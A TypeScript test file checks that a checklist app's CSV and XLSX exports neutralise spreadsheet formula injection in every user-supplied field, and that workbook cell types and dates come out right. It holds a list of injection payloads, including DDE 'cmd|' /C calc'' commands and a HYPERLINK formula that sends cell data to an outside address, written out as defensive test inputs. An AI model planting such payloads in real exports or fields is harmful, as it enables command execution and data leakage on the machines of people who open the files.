import { strFromU8, unzipSync } from "fflate";
import Papa from "papaparse";
import { expect, test } from "vitest";
import { judge } from "@/lib/domain/judge";
import { evidence, group, item, section, stateOf } from "@/lib/domain/testing/build";
import { sha256 } from "@/lib/domain/testing/sha256";
import { attributeOf, tagsIn, unescapeXml } from "../imports/xml";
import { columns, exportCsv, type Exported } from "./csv";
import { exportXlsx } from "./xlsx";

const signs = ["=", "+", "-", "@", "|", "%", "\t=", "\r=", "\n=", "\0=", "＝", "＋", "－", "＠"];
const commands = ["1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"https://example.com?\"&A1,\"x\")", "SUM(1;2)*cmd|'/C calc'!A1"];
const hidden = ["\u200b=1", "\ufeff=1", " =1", "\u00a0+1", "\u3000@x", "\u2060-1", "'=1", "\u2060=2"];
/** What makes spreadsheets compute, ask other servers or start programs when a cell begins with it. */
const payloads = [...signs.flatMap((sign) => commands.map((command) => `${sign}${command}`)), ...hidden];

/** A launch in which a payload stands in every text that people give. */
function poisoned(payload: string): Exported {
  const words = { text: payload, condition: payload, applicabilityReason: payload, key: payload, workBy: "ann", ownerId: "ann" };
  const state = stateOf({
    section: [section("s1", { title: payload })], group: [group("g1", { title: payload })],
    item: [
      item("i1", { ...words, work: "blocked", workReason: payload, threshold: { metric: payload, comparator: "<", limit: 1, unit: payload } }),
      item("i2", { ...words, key: `${payload}2`, position: 1, applicability: "not-applicable" }),
    ],
    evidence: [evidence("e1", "i1", { kind: "note", title: payload, url: null })],
  }, { name: payload, slug: "demo" });
  return { state, judgement: judge(state, "2026-01-10T09:00:00.000Z", sha256), people: { ann: { name: payload, email: "ann@example.com" } } };
}

/** By its own rule, not by ours: the first sign that is seen starts a formula somewhere. */
const live = (cell: string): boolean => /^[\s\u0000\u00a0\u200b-\u200f\u2060\u3000\ufeff]*[=+\-@|%＝＋－＠｜％]/.test(cell) || /^[\t\r\n\0]/.test(cell);

test("no formula that anybody wrote into a launch is alive in CSV or XLSX, whatever the column", () => {
  let cells = 0;
  const alive: string[] = [];
  for (const payload of payloads) {
    const launch = poisoned(payload);
    const csv = Papa.parse<string[]>(exportCsv(launch).replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    for (const [at, { name }] of columns.entries()) {
      for (const row of csv.slice(1)) {
        cells += 1;
        if (live(row[at] ?? "")) alive.push(`csv ${name}: ${JSON.stringify(row[at])}`);
      }
    }
    const parts = unzipSync(exportXlsx(launch));
    for (const [part, bytes] of Object.entries(parts).filter(([name]) => name.startsWith("xl/worksheets/"))) {
      const tags = [...tagsIn(strFromU8(bytes))];
      if (tags.some(({ name }) => name === "f")) alive.push(`${part}: a formula`);
      let cell = "";
      for (const { name, attributes, text, closing } of tags) {
        if (closing) continue;
        if (name === "c") {
          cells += 1;
          cell = attributes;
        }
        // A text in its cell computes nothing; style 4 keeps it quoted when somebody edits it or saves it as CSV.
        if (name === "t" && (attributeOf(cell, "t") !== "inlineStr" || (live(unescapeXml(text)) && attributeOf(cell, "s") !== "4"))) alive.push(`${part}: ${text}`);
        if (name === "v" && attributeOf(cell, "t") !== "b" && !/^-?\d+(\.\d+)?$/.test(text)) alive.push(`${part}: ${text}`);
      }
    }
  }
  process.stdout.write(`formulas: ${alive.length} alive of ${payloads.length} payloads × ${columns.length} columns, in ${cells} cells of CSV and XLSX\n`);
  expect(payloads.length).toBeGreaterThanOrEqual(60);
  expect(new Set(payloads).size).toBe(payloads.length);
  expect(alive).toEqual([]);
});

test("every payload comes back as it was given", () => {
  for (const payload of payloads) {
    const launch = poisoned(payload);
    const parts = unzipSync(exportXlsx(launch));
    const texts = [...tagsIn(strFromU8(parts["xl/worksheets/sheet1.xml"] ?? new Uint8Array()))].filter(({ name, closing }) => name === "t" && !closing).map(({ text }) => unescapeXml(text));
    expect(texts, JSON.stringify(payload)).toContain(payload);
  }
});

test("a workbook's cells have their types: texts as texts, truths as truths, days and moments as numbers in a date's style", () => {
  const state = stateOf({ item: [item("i1", { due: "2026-12-31", work: "done", workAt: "2026-01-09T15:30:00.000Z", workBy: "ann" })] }, { goLive: "2026-12-31T09:00" });
  const launch: Exported = { state, judgement: judge(state, "2026-01-10T09:00:00.000Z", sha256), people: { ann: { name: "Engineer", email: "ann@example.com" } } };
  const parts = unzipSync(exportXlsx(launch));
  const sheet = strFromU8(parts["xl/worksheets/sheet1.xml"] ?? new Uint8Array());
  const cell = (column: string): string => {
    const at = columns.findIndex(({ name }) => name === column);
    return new RegExp(`<c r="${String.fromCharCode(65 + at)}2"[^>]*>.*?</c>`).exec(sheet)?.[0] ?? "";
  };
  expect(cell("due")).toBe('<c r="O2" s="2"><v>46387</v></c>');
  expect(cell("work since")).toMatch(/^<c r="L2" s="3"><v>46031\.6458333\d*<\/v><\/c>$/);
  expect(cell("counts")).toBe('<c r="P2" t="b"><v>1</v></c>');
  expect(cell("item")).toContain('t="inlineStr"');
  const status = strFromU8(parts["xl/worksheets/sheet2.xml"] ?? new Uint8Array());
  expect(status).toMatch(/made \(UTC\)<\/t><\/is><\/c><c r="B2" s="3"><v>46032\.375<\/v>/);
  expect(status).toMatch(/verified<\/t><\/is><\/c><c r="B7"><v>0<\/v>/);
  expect(strFromU8(parts["xl/styles.xml"] ?? new Uint8Array())).toContain('numFmtId="164" formatCode="yyyy\\-mm\\-dd"');
});
